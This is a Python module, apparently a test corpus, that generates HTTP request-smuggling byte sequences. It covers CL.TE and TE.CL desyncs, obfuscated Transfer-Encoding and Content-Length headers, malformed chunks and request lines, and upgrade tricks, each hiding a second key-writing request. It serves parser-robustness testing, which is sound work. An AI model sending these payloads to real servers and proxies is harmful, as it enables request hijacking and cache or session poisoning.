"""Requests that two parsers may read in two ways: what "request smuggling" is made of.

Each has another request inside, or behind it, which writes a key. What is wrong about them is in the head, in the
framing of the body, or in the request line; see RFC 9112, sections 6 and 11.2.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass


def head(first: str, *lines: str) -> bytes:
    """A head in latin-1, with whatever its lines have in them."""
    return "\r\n".join([first, *lines, "", ""]).encode("latin-1")


def put(key: str, token: str, *lines: str) -> bytes:
    """A well-formed request that writes a key."""
    return (
        head(f"PUT /t/key/{key} HTTP/1.1", "Host: x", f"Authorization: Bearer {token}", *lines, "Content-Length: 2")
        + b"{}"
    )


@dataclass
class Attack:
    """One sequence of bytes.

    :ivar make: from a token and the request inside.
    :ivar is_behind: whether what is inside is a request by the RFC, too.
    """

    make: Callable[[str, bytes], bytes]
    is_behind: bool = False


def _outer(*lines: str, first: str = "PUT /t/key/outer HTTP/1.1", host: str = "Host: x") -> Callable[[str], bytes]:
    return lambda token: head(first, host, f"Authorization: Bearer {token}", *lines)


def _chunk(data: bytes) -> bytes:
    return b"%x\r\n%b\r\n" % (len(data), data)


LAST = b"0\r\n\r\n"


def _cl_te(*lines: str) -> Attack:
    """Who goes by the length sees one request, who goes by the chunks sees two."""
    return Attack(lambda token, inner: _outer(f"Content-Length: {len(LAST + inner)}", *lines)(token) + LAST + inner)


def _te_cl(*lines: str, is_behind: bool = False) -> Attack:
    """The other way around."""

    def make(token: str, inner: bytes) -> bytes:
        chunk = _chunk(inner)
        return _outer(*lines, f"Content-Length: {chunk.index(b'PUT')}")(token) + chunk + LAST

    return Attack(make, is_behind)


ENCODINGS = {
    "plain": "Transfer-Encoding: chunked",
    "capitals": "Transfer-Encoding: CHUNKED",
    "unknown": "Transfer-Encoding: xchunked",
    "space before the colon": "Transfer-Encoding : chunked",
    "tab": "Transfer-Encoding:\tchunked",
    "vertical tab": "Transfer-Encoding: \x0bchunked",
    "no-break space": "Transfer-Encoding: \xa0chunked",
    "space first": " Transfer-Encoding: chunked",
    "folded": "Transfer-Encoding:\r\n chunked",
    "behind a bare LF": "X: y\nTransfer-Encoding: chunked",
    "behind a bare CR": "X: y\rTransfer-Encoding: chunked",
    "a name cut in two": "Transfer-Encoding\r\n: chunked",
    "then identity": "Transfer-Encoding: chunked, identity",
    "after identity": "Transfer-Encoding: identity, chunked",
    "identity": "Transfer-Encoding: identity",
    "twice chunked": "Transfer-Encoding: chunked, chunked",
    "a second header": "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "a first header": "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "with a parameter": "Transfer-Encoding: chunked;q=1",
    "quoted": 'Transfer-Encoding: "chunked"',
    "with a zero byte": "Transfer-Encoding: chunked\x00",
    "with an underscore": "Transfer_Encoding: chunked",
    "empty": "Transfer-Encoding:",
    "comma": "Transfer-Encoding: ,chunked",
    "named by Connection": "Connection: keep-alive, transfer-encoding\r\nTransfer-Encoding: chunked",
}
LENGTHS = {
    "twice": ("Content-Length: 0", "Content-Length: {0}"),
    "twice the same": ("Content-Length: {0}", "Content-Length: {0}"),
    "long first": ("Content-Length: {0}", "Content-Length: 0"),
    "a list": ("Content-Length: 0, {0}",),
    "plus": ("Content-Length: +{0}",),
    "minus": ("Content-Length: -{0}",),
    "hex": ("Content-Length: 0x{0:x}",),
    "zeros": ("Content-Length: 000{0}",),
    "a point": ("Content-Length: {0}.0",),
    "an exponent": ("Content-Length: {0}e0",),
    "an underscore": ("Content-Length: 0_{0}",),
    "other digits": ("Content-Length: \xb2",),
    "space inside": ("Content-Length: 0 {0}",),
    "space before the colon": ("Content-Length : {0}",),
    "folded": ("Content-Length:\r\n {0}",),
    "folded behind another": ("X: y\r\n Content-Length: {0}", "Content-Length: 0"),
    "behind a bare LF": ("X: y\nContent-Length: {0}", "Content-Length: 0"),
    "empty": ("Content-Length:",),
    "beyond 64 bits": ("Content-Length: 18446744073709551616",),
    "named by Connection": ("Connection: keep-alive, content-length", "Content-Length: {0}"),
    "a zero byte behind": ("Content-Length: {0}\x00",),
}
CHUNKS: dict[str, Callable[[bytes], bytes]] = {
    "an extension": lambda inner: b"%x;a=b\r\n%b\r\n" % (len(inner), inner) + LAST,
    "an extension with a bare LF": lambda inner: b"2;a\nxx\r\n%x\r\n%b\r\n" % (len(inner), inner) + LAST,
    "an extension with a quoted end": lambda inner: b'%x;a="\r\n%b\r\n0\r\n\r\n"' % (len(inner), inner),
    "a long extension": lambda inner: b"%x;%b\r\n%b\r\n" % (len(inner), b"a" * 20_000, inner) + LAST,
    "a size with a sign": lambda inner: b"+%x\r\n%b\r\n" % (len(inner), inner) + LAST,
    "a negative size": lambda inner: b"-1\r\n" + inner + LAST,
    "a size with 0x": lambda inner: b"0x%x\r\n%b\r\n" % (len(inner), inner) + LAST,
    "a size with an underscore": lambda inner: b"0_%x\r\n%b\r\n" % (len(inner), inner) + LAST,
    "a size with a space": lambda inner: b"%x \r\n%b\r\n" % (len(inner), inner) + LAST,
    "a size beyond 64 bits": lambda inner: b"10000000000000002\r\n{}\r\n0\r\n\r\n" + inner,
    "a size beyond 32 bits": lambda inner: b"100000002\r\n{}\r\n0\r\n\r\n" + inner,
    "no size": lambda inner: b"\r\n" + inner,
    "a size that is no number": lambda inner: b"zz\r\n" + inner,
    "a size behind a bare LF": lambda inner: b"2\n{}\n0\n\n" + inner,
    "more than its size": lambda inner: b"2\r\n{}xx\r\n0\r\n\r\n" + inner,
    "no end of a chunk": lambda inner: b"2\r\n{}0\r\n\r\n" + inner,
    "another end of a chunk": lambda inner: b"2\r\n{}xx0\r\n\r\n" + inner,
    "a trailer that is a request": lambda inner: b"2\r\n{}\r\n0\r\n" + inner,
    "a bare LF behind the last": lambda inner: b"2\r\n{}\r\n0\r\n\n" + inner,
    "a bare CR behind the last": lambda inner: b"2\r\n{}\r\n0\r\n\r" + inner,
}
LINES = {
    "two spaces": "PUT  /t/key/outer HTTP/1.1",
    "a tab": "PUT\t/t/key/outer\tHTTP/1.1",
    "a space first": " PUT /t/key/outer HTTP/1.1",
    "a space behind": "PUT /t/key/outer HTTP/1.1 ",
    "no version": "PUT /t/key/outer",
    "lower case": "put /t/key/outer http/1.1",
    "another version": "PUT /t/key/outer HTTP/1.2",
    "version 2": "PUT /t/key/outer HTTP/2.0",
    "more digits": "PUT /t/key/outer HTTP/01.1",
    "a zero byte": "PUT /t/key/out\x00er HTTP/1.1",
    "a bare LF": "PUT /t/key/outer HTTP/1.1\nX: y",
    "a bare CR": "PUT /t/key/outer HTTP/1.1\rX: y",
    "a fragment": "PUT /t/key/outer#x HTTP/1.1",
    "an absolute address": "PUT http://x/t/key/outer HTTP/1.1",
    "the address of another": "PUT http://other/t/key/outer HTTP/1.1",
    "an asterisk": "OPTIONS * HTTP/1.1",
    "a tunnel": "CONNECT x:80 HTTP/1.1",
}


def _framed(lines: tuple[str, ...]) -> Attack:
    return Attack(lambda token, inner: _outer(*(one.format(len(inner)) for one in lines))(token) + inner)


def _chunked(body: Callable[[bytes], bytes]) -> Attack:
    return Attack(lambda token, inner: _outer("Transfer-Encoding: chunked")(token) + body(inner))


def _line(first: str) -> Attack:
    return Attack(lambda token, inner: _outer("Content-Length: 2", first=first)(token) + b"{}" + inner, is_behind=True)


def _behind(*lines: str, body: bytes = b"{}", **more: str) -> Attack:
    return Attack(lambda token, inner: _outer(*lines, **more)(token) + body + inner, is_behind=True)


def _inside(*lines: str, **more: str) -> Attack:
    return Attack(lambda token, inner: _outer(*lines, f"Content-Length: {len(inner)}", **more)(token) + inner)


_TWO = "Content-Length: 2"
_GET = "GET /t/key/outer HTTP/1.1"
_OLD = "PUT /t/key/outer HTTP/1.0"

ATTACKS = {
    **{f"CL.TE: {name}": _cl_te(line) for name, line in ENCODINGS.items()},
    **{f"TE.CL: {name}": _te_cl(line, is_behind="_" in line) for name, line in ENCODINGS.items()},
    **{f"length: {name}": _framed(lines) for name, lines in LENGTHS.items()},
    **{f"chunks: {name}": _chunked(body) for name, body in CHUNKS.items()},
    **{f"line: {name}": _line(first) for name, first in LINES.items()},
    "pipelined": _behind(_TWO),
    "pipelined behind chunks": _behind("Transfer-Encoding: chunked", body=_chunk(b"{}") + LAST),
    "pipelined behind a trailer": _behind("Transfer-Encoding: chunked", body=_chunk(b"{}") + b"0\r\nX: y\r\n\r\n"),
    "pipelined behind empty lines": _behind(_TWO, body=b"{}\r\n\r\n"),
    "pipelined behind GET": _behind(first=_GET, body=b""),
    "behind Connection: close": _behind(_TWO, "Connection: close"),
    "behind HTTP/1.0": _behind(_TWO, first=_OLD),
    "behind HTTP/1.0 that stays": _behind(_TWO, "Connection: keep-alive", first=_OLD),
    "behind chunks of HTTP/1.0": _behind("Transfer-Encoding: chunked", body=_chunk(b"{}") + LAST, first=_OLD),
    "inside the body of GET": _inside(first=_GET),
    "inside the body of HEAD": _inside(first="HEAD /t/key/outer HTTP/1.1"),
    "inside the body of DELETE": _inside(first="DELETE /t/key/outer HTTP/1.1"),
    "inside a body that is expected": _inside("Expect: 100-continue"),
    "inside a body that is expected otherwise": _inside("Expect: 100-continue, x"),
    "inside the body of GET that is expected": _inside("Expect: 100-continue", first=_GET),
    "Host twice": _behind(_TWO, "Host: other"),
    "no Host": _behind(_TWO, host="X: y"),
    "a Host with an address": _behind(_TWO, host="Host: x/t/key/other"),
    "h2c": _behind(
        "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__", first=_GET, body=b""
    ),
    "websocket of another version": _behind(
        "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 7", "Sec-WebSocket-Key: AAAA",
        first="GET /ws HTTP/1.1", body=b"",
    ),
    "websocket elsewhere": _behind("Connection: Upgrade", "Upgrade: websocket", first=_GET, body=b""),
    "a zero byte in a header": _behind(_TWO, "X: a\x00b"),
    "a header without a colon": _behind(_TWO, "nonsense"),
    "a header without a name": _behind(_TWO, ": nothing"),
    "another method": _behind(_TWO, "X-HTTP-Method-Override: DELETE"),
    "a folded header": _behind(_TWO, "X: a\r\n b"),
}  # fmt: skip
